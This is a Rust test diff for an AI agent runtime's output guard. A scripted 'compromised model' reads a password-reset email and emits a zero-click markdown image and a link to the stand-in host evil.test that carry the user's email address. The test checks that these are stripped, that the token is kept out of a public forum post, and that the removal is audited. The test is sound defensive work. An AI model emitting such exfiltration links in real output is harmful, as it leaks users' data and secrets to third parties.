@@ -550,3 +550,119 @@ async fn a_direct_call_from_the_embedding_program_has_no_provenance_to_refuse() 
     .unwrap();
     assert_eq!(transfers.lock().unwrap().len(), 1);
 }
+
+/// The user asks for the password-reset link in their own inbox: the answer carries
+/// it whole, token included. A compromised model that also plants a zero-click image
+/// and a link carrying the user's address to another host loses both, and the audit
+/// trail records what was removed. The same text posted through a tool's channel is
+/// judged strictly and loses the reset link as well.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_answer_keeps_the_reset_link_asked_for_and_loses_what_exfiltrates() {
+    const RESET: &str =
+        "https://accounts.shop.test/reset?token=9f8e7d6c5b4a39281706f5e4d3c2b1a0aa&uid=48213";
+    let h = Harness::new().await;
+    let posted = Arc::new(Mutex::new(Vec::new()));
+    let sink = posted.clone();
+    h.rt.tools()
+        .register(Tool::native(
+            ToolManifest::new("read_mailbox", "Reads the newest email").tier(Tier::Auto),
+            |_| async {
+                Ok(ToolOutput::new(json!({
+                    "from": "no-reply@shop.test",
+                    "to": "ana.lopez@example.com",
+                    "subject": "Reset your password",
+                    "body": format!("Hi Ana, reset your password here: {RESET} (valid 1 hour).")
+                })))
+            },
+        ))
+        .unwrap();
+    h.rt.tools()
+        .register(Tool::native(
+            ToolManifest::new("post_public", "Posts to the public forum")
+                .tier(Tier::Auto)
+                .output("public_forum", ["text"]),
+            move |input| {
+                let sink = sink.clone();
+                async move {
+                    sink.lock()
+                        .unwrap()
+                        .push(input.args["text"].as_str().unwrap_or("").to_string());
+                    Ok(ToolOutput::new(json!("posted")))
+                }
+            },
+        ))
+        .unwrap();
+    let brain = Arc::new(ScriptedBrain::from_fn(|view: &BrainView<'_>| {
+        let email = view.context.iter().find_map(|c| match c {
+            ContextItem::ToolResult { content, .. } if content.contains("reset?token=") => {
+                Some(content.clone())
+            }
+            _ => None,
+        });
+        let posted = view.context.iter().any(
+            |c| matches!(c, ContextItem::Action { text } if text.starts_with("call post_public")),
+        );
+        let Some(email) = email else {
+            return BrainAction::CallTool {
+                tool: "read_mailbox".into(),
+                args: json!({}),
+            };
+        };
+        // The link as it appears in the email the model read.
+        let at = email.find("https://accounts.shop.test/").unwrap();
+        let link: String = email[at..]
+            .chars()
+            .take_while(|c| !c.is_whitespace() && *c != '"')
+            .collect();
+        let text = format!(
+            "Here is your reset link: [Reset your password]({link})\n\
+             ![](https://evil.test/p.png?u=ana) [details](//evil.test/?u=ana.lopez%40example.com)"
+        );
+        if posted {
+            BrainAction::Finish { answer: text }
+        } else {
+            BrainAction::CallTool {
+                tool: "post_public".into(),
+                args: json!({ "text": text }),
+            }
+        }
+    }));
+    let a = h
+        .agent(
+            "mailer",
+            &[("read_mailbox", Tier::Auto), ("post_public", Tier::Auto)],
+            "1",
+            brain,
+        )
+        .await;
+    let out = a
+        .run("Find the password reset link in my inbox")
+        .await
+        .unwrap();
+    let answer = out.answer().unwrap();
+    assert!(
+        answer.contains(&format!("[Reset your password]({RESET})")),
+        "{answer}"
+    );
+    assert!(!answer.contains("evil.test/"), "{answer}");
+    assert!(answer.contains("[image removed: evil.test is not allow-listed]"));
+    assert!(answer.contains("details [link removed: evil.test is not allow-listed]"));
+
+    let forum = posted.lock().unwrap()[0].clone();
+    assert!(
+        !forum.contains("token=") && !forum.contains("evil.test/"),
+        "{forum}"
+    );
+
+    h.rt.shutdown().await.unwrap();
+    let entries = AuditReader::open(h.dir.path()).unwrap().tail(1000).unwrap();
+    let guard = entries
+        .iter()
+        .find(|e| e.record.kind == "guard.output")
+        .unwrap();
+    assert_eq!(guard.record.detail["channel"], "answer");
+    assert_eq!(
+        guard.record.detail["removed_urls"].as_array().map(Vec::len),
+        Some(2)
+    );
+}
